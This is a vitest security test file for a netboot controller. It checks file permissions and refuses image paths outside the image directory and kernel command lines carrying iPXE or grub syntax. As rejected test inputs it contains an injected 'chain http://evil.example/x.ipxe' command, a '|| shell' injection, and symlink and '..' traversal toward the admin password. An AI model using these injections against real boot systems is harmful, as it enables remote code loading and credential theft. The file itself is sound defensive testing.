/**
 * What the controller leaves on disk and puts in iPXE scripts: the data directory is made 0700 at
 * every start (not only when created), console logs are 0600 (also one left with a wider mode),
 * an image file outside the image directory (the first admin's password, via a symlink or `..`)
 * and an image command line with iPXE or grub syntax are refused.
 */
import { chmodSync, mkdirSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ControllerConfig } from '../../controller/config.js';
import { startController } from '../../controller/controller.js';
import { defaultExtensions } from '../../controller/extensions.js';
import { createLogger } from '../../controller/log.js';
import { RotatingLog } from '../../controller/console/log-file.js';
import { scriptSyntaxIn } from '../../controller/provision/netboot/scripts.js';
import { tempDir } from '../helpers/tmp.js';
import { startSecureController, type SecureController } from './secure-controller.js';

const mode = (path: string) => statSync(path).mode & 0o777;

describe('a real controller', () => {
  let c: SecureController;
  beforeAll(async () => {
    c = await startSecureController();
  });
  afterAll(async () => {
    await c?.stop();
  });

  it('makes its data directory 0700 at every start, also one an operator opened up', async () => {
    const tmp = tempDir('muster-datadir-');
    try {
      const start = () =>
        startController(ControllerConfig.parse({ dataDir: tmp.dir, host: '127.0.0.1', mqttPort: 0, wsPort: null, httpPort: null, admin: { host: '127.0.0.1', port: null, tls: null }, storeDebounceMs: 20 }), {
          log: createLogger({ level: 'silent', pretty: false }),
          extensions: defaultExtensions,
        });
      await (await start()).stop();
      expect(mode(tmp.dir)).toBe(0o700);
      chmodSync(tmp.dir, 0o755);
      await (await start()).stop();
      expect(mode(tmp.dir)).toBe(0o700);
    } finally {
      tmp.remove();
    }
  });

  it('takes image files only from inside the image directory, symlinks resolved', async () => {
    const dir = join(c.dataDir, 'images');
    mkdirSync(dir, { recursive: true });
    writeFileSync(join(dir, 'initrd.img'), Buffer.alloc(4096, 1));
    const add = (kernel: string) => c.admin.request('image-add', { name: 'leak', kernel, initrd: join(dir, 'initrd.img'), replace: true });
    const secret = join(c.dataDir, 'admin-password');
    await expect(add(secret)).rejects.toThrow(`image leak: kernel ${secret} is not inside an image directory (${dir}; config build.imageDirs)`);
    symlinkSync(secret, join(dir, 'vmlinuz-link'));
    await expect(add(join(dir, 'vmlinuz-link'))).rejects.toThrow(`kernel ${secret} is not inside an image directory`);
    await expect(add(join(dir, '..', 'admin-password'))).rejects.toThrow('is not inside an image directory');
    writeFileSync(join(dir, 'vmlinuz'), Buffer.alloc(4096, 2));
    await expect(add(join(dir, 'vmlinuz'))).resolves.toMatchObject({ name: 'leak' });
  });

  it('refuses image command lines with boot script syntax', async () => {
    const dir = join(c.dataDir, 'images');
    mkdirSync(dir, { recursive: true });
    for (const f of ['vmlinuz', 'initrd.img']) writeFileSync(join(dir, f), Buffer.alloc(4096, 1));
    const add = (cmdline: string) => c.admin.request('image-add', { name: 'img', kernel: join(dir, 'vmlinuz'), initrd: join(dir, 'initrd.img'), cmdline, replace: true });
    await expect(add('quiet || shell')).rejects.toThrow('image img: cmdline: "||" is boot script syntax');
    await expect(add('quiet && chain http://evil.example/x.ipxe')).rejects.toThrow('"&&" is boot script syntax');
    await expect(add('root=${root-path}')).rejects.toThrow('"$" is boot script syntax');
    await expect(add('console=ttyS0,115200n8 quiet')).resolves.toMatchObject({ name: 'img' });
  });
});

describe('console logs', () => {
  it('are written 0600, also a file left from before with a wider mode', async () => {
    const tmp = tempDir('muster-console-mode-');
    try {
      const fresh = new RotatingLog(join(tmp.dir, 'consoles', 'n1.log'), { maxBytes: 256, files: 2 }, (err) => {
        throw err;
      });
      fresh.append('login: root');
      await fresh.close();
      expect(mode(join(tmp.dir, 'consoles', 'n1.log'))).toBe(0o600);
      expect(mode(join(tmp.dir, 'consoles'))).toBe(0o700);

      const oldPath = join(tmp.dir, 'consoles', 'n2.log');
      writeFileSync(oldPath, 'before\n', { mode: 0o644 });
      chmodSync(oldPath, 0o644);
      const old = new RotatingLog(oldPath, { maxBytes: 256, files: 2 }, (err) => {
        throw err;
      });
      old.append('Password: hunter2');
      await old.close();
      expect(mode(oldPath)).toBe(0o600);
    } finally {
      tmp.remove();
    }
  });
});

describe('boot script syntax', () => {
  it('finds what iPXE or grub would interpret in a command line', () => {
    expect(scriptSyntaxIn('console=ttyS0,115200n8 root=/dev/vda ip=dhcp')).toBeNull();
    for (const bad of ['a || b', 'a && b', '${x}', 'a|b', 'a&b', 'a="b c"', "a='b'", 'a\\b', 'a;b', 'a>b', 'a<b', '{a}']) expect(scriptSyntaxIn(bad), bad).not.toBeNull();
  });
});
